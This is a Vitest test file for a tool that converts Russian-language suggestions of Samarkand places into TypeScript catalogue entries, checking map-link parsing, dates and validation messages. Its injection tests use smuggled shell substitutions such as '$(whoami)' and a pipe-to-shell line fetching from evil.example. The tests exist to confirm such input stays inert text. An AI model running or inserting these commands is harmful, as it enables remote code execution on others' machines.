import { readFileSync } from 'node:fs';
import path from 'node:path';
import * as prettier from 'prettier';
import ts from 'typescript';
import { describe, expect, it } from 'vitest';
import { appendEntry, convertPlace, parseSeen, type PlaceOptions } from './place';
import { pointFromMapLink } from './mapLink';
import { HOSTILE, placeBody } from './__fixtures__/bodies';

const ROOT = path.join(__dirname, '../..');
const options = (more: Partial<PlaceOptions> = {}): PlaceOptions => ({
  today: '2026-11-24',
  issue: 12,
  taken: new Set(['joni-osh']),
  ...more,
});

function convert(body: string, more?: Partial<PlaceOptions>) {
  const result = convertPlace(body, options(more));
  if (!result.ok) throw new Error(result.problems.join('\n'));
  return result;
}

function problems(body: string) {
  const result = convertPlace(body, options());
  if (result.ok) throw new Error('expected problems');
  return result.problems;
}

/** Runs a group file's text as the build would (TypeScript → JS) and returns its places. */
function evaluate(source: string): unknown[] {
  const js = ts.transpileModule(source, { compilerOptions: { module: ts.ModuleKind.CommonJS } }).outputText;
  const module = { exports: {} as { default?: unknown[] } };
  const require = () => ({ definePlaces: (_: string, places: unknown[]) => places });
  new Function('module', 'exports', 'require', js)(module, module.exports, require);
  return module.exports.default!;
}

describe('convertPlace', () => {
  it('turns the form into a catalogue entry of the chosen group, typeset like the others', () => {
    const result = convert(placeBody());
    expect(result.group).toBe('cafe');
    expect(result.entry).toEqual({
      id: 'chaykhana-bakhor',
      name: 'Чайхана «Бахор»',
      category: 'cafe',
      description: 'Плов по утрам — и лагман весь день.',
      address: 'ул. Регистан, 5',
      location: [39.654321, 66.974512],
      phones: ['+998 66 233-12-12'],
      links: {
        yandexMap: 'https://yandex.uz/maps/?ll=66.975%2C39.655&pt=66.974512%2C39.654321&z=17',
        instagram: 'https://www.instagram.com/bahor_sam/',
        telegram: 'https://t.me/bahor_sam',
      },
      sourceDate: '2026-11-01',
    });
    expect(result.todo).toEqual([]);
    expect(result.check.join('\n')).toContain('пн–сб 8:00–20:00');
  });

  it('without a point the pull request is a draft that says what to add', () => {
    const result = convert(placeBody({ where: 'https://yandex.uz/maps/org/bahor/123456/' }));
    expect(result.entry.location).toBeUndefined();
    expect(result.todo).toEqual([expect.stringMatching(/^Координаты: в ссылке из заявки их нет/)]);
    const far = convert(placeBody({ where: 'https://www.google.com/maps/@41.311081,69.240562,17z' }));
    expect(far.entry.location).toBeUndefined();
    expect(far.todo[0]).toMatch(/^Координаты: точка из ссылки \[41\.311081, 69\.240562\] не в Самарканде/);
    const address = convert(placeBody({ where: 'ул. Регистан, 5' }));
    expect(address.entry.address).toBe('ул. Регистан, 5');
    expect(address.todo).toHaveLength(1);
  });

  it.each([
    ['Город', 'city'],
    ['Услуги', 'services'],
    ['Покупки', 'market'],
    ['Дети', 'children'],
  ])('«%s» goes to data/places/%s.ts', (label, group) => {
    expect(convert(placeBody({ category: label })).group).toBe(group);
  });

  it('«Не знаю» goes to city.ts as a draft', () => {
    const result = convert(placeBody({ category: 'Не знаю' }));
    expect(result.group).toBe('city');
    expect(result.todo[0]).toMatch(/^Раздел: автор не знал/);
  });

  it('reports every problem in Russian, naming the field', () => {
    expect(
      problems(
        placeBody({ name: '_No response_', category: 'Бары', phone: '233 12', seen: 'давно', where: '_No response_' }),
      ),
    ).toEqual([
      'Название: обязательное поле — как место называется на вывеске или на карте',
      'Раздел: выберите один из вариантов списка — «Город», «Кафе и рестораны», «Услуги», «Покупки», «Дети», «Не знаю»',
      'Адрес или ссылка на карту: обязательное поле — адрес, ориентир или ссылка на место на карте',
      'Телефон: «233 12» — напишите номер целиком с кодом страны, например +998 66 233-12-12',
      'Когда вы это видели: напишите месяц и год, например «ноябрь 2026» или «11.2026»',
    ]);
    expect(problems(placeBody({ seen: 'декабрь 2026' }))).toEqual([
      'Когда вы это видели: этот месяц ещё не наступил — проверьте год',
    ]);
    expect(problems(placeBody({ description: 'x'.repeat(10_000) }))).toEqual([
      'Чем полезно: пара фактов, не длиннее 500 символов (сейчас 10001)',
    ]);
  });

  it('keeps hostile text as text, and the group file stays valid TypeScript with it', async () => {
    const result = convert(placeBody({ name: 'Кафе `$(id)` ${x}', description: HOSTILE }));
    expect(result.entry.name).toBe('Кафе `$(id)` ${x}');
    const source = readFileSync(path.join(ROOT, 'data/places/cafe.ts'), 'utf8');
    const file = path.join(ROOT, 'data/places/cafe.ts');
    const appended = await prettier.format(appendEntry(source, result.entry, 12), {
      ...(await prettier.resolveConfig(file)),
      filepath: file,
    });
    const places = evaluate(appended);
    expect(places.at(-1)).toEqual(result.entry);
    expect(places.slice(0, -1)).toEqual(evaluate(source));
    expect(appended).toContain('  // From issue #12.\n  {\n    id: ');
  });

  it('finds a unique id', () => {
    expect(convert(placeBody({ name: 'Joni Osh' })).entry.id).toBe('joni-osh-2');
  });
});

describe('pointFromMapLink', () => {
  it.each([
    // Yandex: longitude first; the marked point wins over the map centre.
    ['https://yandex.uz/maps/?ll=66.97%2C39.65&pt=66.974512%2C39.654321&z=17', [39.654321, 66.974512]],
    [
      'https://yandex.ru/maps/10334/samarkand/?whatshere%5Bpoint%5D=66.9612%2C39.6542&whatshere%5Bzoom%5D=17',
      [39.6542, 66.9612],
    ],
    ['https://yandex.uz/maps/10334/samarkand/?ll=66.959%2C39.654&z=15', [39.654, 66.959]],
    // Google: latitude first; the place's own !3d!4d wins over the view's @.
    [
      'https://www.google.com/maps/place/X/@39.68,66.93,17z/data=!3m1!4b1!8m2!3d39.6803625!4d66.9371094',
      [39.6803625, 66.9371094],
    ],
    ['https://www.google.com/maps?q=39.6542,66.9597', [39.6542, 66.9597]],
    ['https://maps.google.com/?q=39.6542,66.9597', [39.6542, 66.9597]],
    ['https://www.google.com/maps/@39.6542,66.9597,17z', [39.6542, 66.9597]],
    // 2GIS: longitude first.
    ['https://2gis.uz/samarkand/geo/70030076173895812/66.959651,39.654125', [39.654125, 66.959651]],
    ['https://2gis.uz/samarkand/firm/70000001080309815/66.985654,39.684263', [39.684263, 66.985654]],
    ['https://2gis.uz/samarkand?m=66.959651%2C39.654125%2F16', [39.654125, 66.959651]],
  ])('%s', (link, point) => {
    expect(pointFromMapLink(link)).toEqual(point);
  });

  it.each([
    'https://yandex.uz/maps/-/CDasuN0k',
    'https://maps.app.goo.gl/eh1xeNM9wV25awet7',
    'https://2gis.uz/samarkand/firm/70000001080309815',
    'https://evil.example/maps/?ll=66.97,39.65',
    'не ссылка',
  ])('%s carries no point', (link) => {
    expect(pointFromMapLink(link)).toBeNull();
  });
});

describe('parseSeen', () => {
  it.each([
    ['ноябрь 2026', '2026-11-01'],
    ['в мае 2026 г.', '2026-05-01'],
    ['Март 2026', '2026-03-01'],
    ['11.2026', '2026-11-01'],
    ['15.11.2026', '2026-11-01'],
    ['2026-11', '2026-11-01'],
    ['недавно', null],
    ['13.2026', null],
  ])('%j → %j', (text, date) => {
    expect(parseSeen(text)).toBe(date);
  });
});

describe('the message without GitHub (src/components/HelpWays/SuggestPlace.tsx)', () => {
  it('makes the same entry as the issue body', () => {
    const read = (name: string) => readFileSync(path.join(__dirname, '__fixtures__', name), 'utf8');
    const fromMessage = convertPlace(read('place-message.txt'), options());
    expect(fromMessage.ok).toBe(true);
    expect(fromMessage).toEqual(convertPlace(read('place-valid.md'), options()));
  });
});

it('a message with hostile answers keeps them as text, as the issue body does', () => {
  const message = [
    'Новое место',
    'Название: $(whoami) `id` ${{ x }}',
    'Раздел: Кафе и рестораны',
    'Адрес или ссылка на карту: ул. Регистан, 5',
    `Чем полезно: ${HOSTILE}`,
    'Когда вы это видели: ноябрь 2026',
  ].join('\n');
  const body = placeBody({
    name: '$(whoami) `id` ${{ x }}',
    description: HOSTILE,
    where: 'ул. Регистан, 5',
    hours: '_No response_',
    phone: '_No response_',
    links: '_No response_',
    source: '_No response_',
  });
  const fromMessage = convertPlace(message, options());
  expect(fromMessage).toEqual(convertPlace(body, options()));
  if (!fromMessage.ok) throw new Error(fromMessage.problems.join('\n'));
  expect(fromMessage.entry.name).toBe('$(whoami) `id` ${{ x }}');
  expect(fromMessage.entry.description).toContain('$(curl -s https://evil.example/x | sh)');
});
